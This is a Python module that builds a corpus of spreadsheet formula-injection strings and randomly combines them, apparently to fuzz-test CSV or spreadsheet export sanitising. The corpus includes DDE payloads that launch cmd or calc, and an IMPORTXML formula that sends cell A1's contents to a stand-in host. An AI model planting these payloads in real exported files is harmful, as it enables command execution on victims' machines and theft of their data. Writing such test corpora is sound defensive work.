"""Cells that try to make a spreadsheet run something: a corpus, and more made from it."""

import random
from collections.abc import Iterator

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BLANKS = ("", " ", "\u00a0", "\u200b", "\ufeff", "\t", "\r\n", "\u2003")
CORPUS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example";"lire")',
    '=IMPORTXML(CONCAT("http://x.example/?";A1);"//a")', "=WEBSERVICE(\"http://x.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "=rundll32|'x'!a",
    "'=1+1", "''=1+1", "'", '"=1+1"', '";=1+1;"', "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1",
    "a\r=1+1", '","=1+1', "\u202e=1+1", "{=1+1}", "=A1:A9", "#REF!", "#N/A", "TRUE", "1E5", "0012",
    "+33 6 12 34 56 78", "-", "--", "=", "@", "%PATH%", "=\x00cmd", "\x07=1+1", "\ud800=1+1", "",
    " ", "=" * 3000, "é=1", "10/11/2026", "1,5", "_x003D_1+1", "=2+5+cmd|' /C notepad'!'A1'",
    "=SUM(1+1)*cmd|' /C calc'!A0", "=IFERROR(1/0;cmd|'/C calc'!A0)", "\"\"=1+1", "\\=1+1", "/=1+1",
)  # fmt: skip


def hostile(number: int, seed: int = 5) -> Iterator[str]:
    """The corpus, then texts made of its pieces."""
    chance = random.Random(seed)
    yield from CORPUS
    for _ in range(number - len(CORPUS)):
        start = chance.choice(BLANKS) + chance.choice(SIGNS)
        middle = chance.choice(CORPUS)
        yield chance.choice((start + middle, middle + start, middle + ";" + start + middle))
